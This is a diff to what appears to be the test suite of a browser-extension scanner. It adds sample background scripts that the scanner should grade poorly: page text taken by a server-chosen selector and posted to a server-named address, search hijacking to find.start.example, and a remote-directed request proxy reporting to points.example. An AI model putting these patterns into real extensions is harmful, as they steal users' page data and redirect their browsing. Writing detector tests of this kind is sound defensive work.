@@ -250,6 +250,42 @@ it('a library of the program’s own, which is a function with functions, that a
   expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
 });
 
+it('an object that is there already, or is made', async () => {
+  const background = (data: string): string =>
+    `const books = new Map(); class Book { constructor() { this.lines = []; } add(line) { this.lines.push(line); ${send('this.lines.slice(-3)')}; } } const book = books.get(1) ?? new Book(); books.set(1, book); (async () => book.add(await ${data}))();`;
+  expect(await graded({ background: background(TAKEN) })).toBe('F');
+  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
+});
+
+describe('where a server says that it goes', () => {
+  const background = (to: string): string =>
+    `class List { constructor(url) { this.url = url; } async load() { const { rules } = await (await fetch(this.url)).json(); chrome.storage.local.set({ rules }); } } new List('https://lists.example/v1.json').load(); chrome.runtime.onMessage.addListener((m, s, reply) => { if (m.ask) { chrome.storage.local.get('rules').then(({ rules }) => reply(rules[0])); return true; } fetch(${to}, { method: 'POST', body: JSON.stringify(m.got) }); });`;
+  const content =
+    'chrome.runtime.sendMessage({ ask: 1 }, (rule) => chrome.runtime.sendMessage({ rule, got: document.querySelector(rule.at).textContent }));';
+  it('is nobody’s that the package names', async () => {
+    expect(await graded({ content, background: background('m.rule.to') })).toMatch(/^[DF]/);
+  });
+  it('is more than what data a server asks for', async () => {
+    const idle =
+      "chrome.runtime.sendMessage({ ask: 1 }, (rule) => chrome.runtime.sendMessage({ rule, got: 'ready' }));";
+    expect(await graded({ content: idle, background: background('m.rule.to') })).toMatch(/^[AB]/);
+  });
+});
+
+it('searches that are led elsewhere by an address which a function puts together', async () => {
+  const background = (to: string): string =>
+    `var ENGINES = { 'www.google.com': 'q', 'www.bing.com': 'q' }; var FIND = '${to}'; function asked(url) { var u = new URL(url); var e = ENGINES[u.hostname]; return e ? u.searchParams.get(e) : null; } function address(q) { return FIND + '?terms=' + encodeURIComponent(q); } chrome.webNavigation.onBeforeNavigate.addListener(function (d) { var q = asked(d.url); if (!q) return; chrome.tabs.update(d.tabId, { url: address(q) }); });`;
+  expect(await graded({ background: background('https://find.start.example/results') })).toBe('D');
+  expect(await graded({ background: background('https://duckduckgo.com/') })).toMatch(/^[AB]/);
+});
+
+it('requests that a server describes to the last header', async () => {
+  const background = (options: string): string =>
+    `async function visit(t) { const r = await fetch(t.u, { ${options} }); return r.text(); } chrome.alarms.onAlarm.addListener(async () => { const { targets = [] } = await (await fetch('https://points.example/p')).json(); const got = await Promise.all(targets.slice(0, 9).map(visit)); fetch('https://points.example/p', { method: 'PUT', body: JSON.stringify(got) }); });`;
+  expect(await graded({ background: background("method: t.m || 'GET', headers: t.h, body: t.b") })).toMatch(/^[DF]/);
+  expect(await graded({ background: background("method: 'GET'") })).toMatch(/^[ABC]/);
+});
+
 it('steps that wait, as Babel has compiled them since 7.27', async () => {
   // Written as its helpers are called; what they do is no part of it.
   const layer = (name: string, params: string, steps: string): string =>
